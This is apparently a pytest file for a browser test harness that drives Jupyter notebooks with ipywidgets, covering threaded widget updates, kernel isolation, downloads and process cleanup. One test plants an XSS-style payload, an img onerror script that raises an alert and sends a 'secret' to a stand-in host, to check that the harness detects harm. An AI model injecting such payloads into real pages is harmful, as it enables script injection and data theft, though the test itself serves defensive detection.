"""The harness of the browser tests does what it promises, in this environment's Jupyter."""

import sys
from pathlib import Path
from urllib.request import Request, urlopen

import browser
import psutil
import pytest
from browser import NARROW, TOKEN, Jupyter, Notebook

pytestmark = [pytest.mark.browser, pytest.mark.once]

# A button whose thread writes every 0.1 s, for 2 s; and two numbers that only the browser keeps equal.
WIDGETS = """
import threading, time
import ipywidgets as widgets

text, button = widgets.HTML("silence"), widgets.Button(description="Send")
here, there = widgets.IntText(), widgets.IntText()
for number in (here, there):
    number.layout.display = "none"
link = widgets.jslink((here, "value"), (there, "value"))

def speak():
    for count in range(1, 21):
        text.value = " ".join(f"word{number}" for number in range(1, count + 1))
        here.value = count
        time.sleep(0.1)

def send(_):
    global speaker
    speaker = threading.Thread(target=speak, daemon=True)
    speaker.start()

button.on_click(send)
widgets.VBox([text, button, here, there])
"""
CELLS = WIDGETS.strip().split("\n\n")


def see(notebook: Notebook, text: str) -> None:
    notebook.outputs.get_by_text(text).wait_for()


def test_words_appear_while_a_thread_writes_them(jupyter: Jupyter) -> None:
    with jupyter.open(CELLS) as notebook:
        see(notebook, "silence")
        before = notebook.bytes_received
        notebook.outputs.get_by_role("button", name="Send").click()
        see(notebook, "word1 word2 word3")
        assert notebook.run("speaker.is_alive()") == "True"
        notebook.screenshot("words")
        see(notebook, "word19 word20")
        assert 2_000 < notebook.bytes_received - before < 200_000
        # The browser has carried the number over, and told the kernel.
        assert notebook.run("there.value") == "20"
        assert notebook.harm() == []
        assert notebook.errors == []


def test_a_page_that_is_loaded_again_finds_the_notebook_running(jupyter: Jupyter) -> None:
    with jupyter.open(CELLS) as notebook:
        notebook.outputs.get_by_role("button", name="Send").click()
        see(notebook, "word1 word2 word3")
        notebook.reload()
        see(notebook, "word19 word20")
        notebook.run_all()
        see(notebook, "silence")


def test_a_kernel_is_of_this_environment_and_finds_its_own_variables(jupyter: Jupyter) -> None:
    ours = {"NPC_LAB_PUMP": "browser", "NPC_LAB_PROVIDER": "openai"}
    with jupyter.open(["import os, sys"], environment=ours) as notebook:
        assert notebook.run("print(os.environ['NPC_LAB_PUMP'])\nsys.prefix") == f"browser\n{sys.prefix!r}"
    with jupyter.open(["import os"]) as notebook:
        assert notebook.run("'NPC_LAB_PUMP' in os.environ, 'sys' in globals()") == "(False, False)"
        assert notebook.run("os.environ['NPC_LAB_PROVIDER']") == "'fake'"


def test_nothing_of_a_notebook_is_left_in_the_next(jupyter: Jupyter) -> None:
    with jupyter.open(CELLS) as notebook:
        see(notebook, "silence")
        notebook.page.evaluate("window.__pwned = 1; console.error('said before'); open('about:blank')")
        assert notebook.harm()
    with jupyter.open(["import ipywidgets"]) as following:
        assert following is notebook
        assert not following.outputs.get_by_text("silence").count()
        assert following.run("sorted(name for name in ('text', 'link') if name in globals())") == "[]"
        assert following.run("len(ipywidgets.widgets.widget._instances)") == "0"
        assert (following.harm(), following.errors, len(following.page.context.pages)) == ([], [], 1)


def test_after_a_failure_everything_is_new(jupyter: Jupyter) -> None:
    with pytest.raises(ZeroDivisionError), jupyter.open(["1"]) as notebook:
        raise ZeroDivisionError
    with jupyter.open(["1"]) as following:
        assert following is not notebook
        assert [following.page] == following.page.context.pages


def test_a_cell_that_raises_fails_the_test(jupyter: Jupyter) -> None:
    with pytest.raises(AssertionError, match="ZeroDivisionError"), jupyter.open(["1 / 0", "'never'"]):
        pass
    assert list(jupyter.artefacts.glob("*-failed-*.png"))


def test_a_cell_goes_on_while_the_test_does_other_things(jupyter: Jupyter) -> None:
    with jupyter.open(["import time"]) as notebook:
        notebook.start("print('begun', flush=True)\ntime.sleep(0.5)\n'done'")
        see(notebook, "begun")
        assert notebook.finish() == "begun\n'done'"


def test_a_notebook_has_all_of_a_narrow_dark_window(jupyter: Jupyter) -> None:
    with jupyter.open(CELLS, size=NARROW, dark=True) as notebook:
        see(notebook, "silence")
        notebook.screenshot("narrow-dark")
        assert notebook.outputs.last.bounding_box()["width"] > 0.85 * NARROW[0]
        if jupyter.front_end is browser.LAB:
            assert notebook.page.locator("body").get_attribute("data-jp-theme-light") == "false"


def test_a_download_arrives(jupyter: Jupyter) -> None:
    link = "<a download='story.txt' href='data:text/plain;base64,SGFpbC4='>Save</a>"
    with jupyter.open(["import ipywidgets", f'ipywidgets.HTML("{link}")']) as notebook:
        with notebook.page.expect_download() as download:
            notebook.outputs.get_by_role("link", name="Save").click()
        assert Path(download.value.path()).read_text() == "Hail."
        assert notebook.harm() == []


def test_harm_is_noticed(jupyter: Jupyter) -> None:
    script = "window.__pwned = true; alert('ha'); new Image().src = 'https://elsewhere.invalid/?secret'"
    with jupyter.open(
        ["import ipywidgets", f'ipywidgets.HTML("<img src=x onerror=\\"{script}\\">")']
    ) as notebook:
        notebook.page.wait_for_function("window.__pwned")
        a_dialog, a_script, a_request = notebook.harm()
    assert (a_dialog, a_request) == ("a dialog: ha", "a request: https://elsewhere.invalid/?secret")
    assert a_script.startswith("a script in http://127.0.0.1")


def test_no_process_is_left_when_a_test_fails(tmp_path: Path) -> None:
    def kernels() -> list[psutil.Process]:
        of_this_test = str(tmp_path / "runtime")
        return [
            found for found in psutil.process_iter(["cmdline"]) if of_this_test in str(found.info["cmdline"])
        ]

    def fail_with_a_kernel_running() -> None:
        with browser.server(tmp_path, browser.front_end()) as url:
            ask = Request(f"{url}api/kernels", b"{}", {"Authorization": f"token {TOKEN}"})
            urlopen(ask, timeout=10).close()
            assert kernels()
            raise ZeroDivisionError

    with pytest.raises(ZeroDivisionError):
        fail_with_a_kernel_running()
    assert not kernels()


def test_a_server_that_does_not_start_says_why(tmp_path: Path) -> None:
    broken = browser.FrontEnd("broken", ["no_such_module"], "", "", "")
    with (
        pytest.raises(RuntimeError, match="No module named no_such_module"),
        browser.server(tmp_path, broken),
    ):
        pass


def test_what_is_missing_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(browser, "CHROMIUM", "/nowhere/chromium")
    with pytest.raises(RuntimeError, match="apt-get install chromium"), browser.chromium():
        pass
    monkeypatch.setattr(browser, "find_spec", lambda _: None)
    with pytest.raises(RuntimeError, match="pip install playwright"), browser.chromium():
        pass
    with pytest.raises(RuntimeError, match="pip install jupyterlab"):
        browser.front_end()
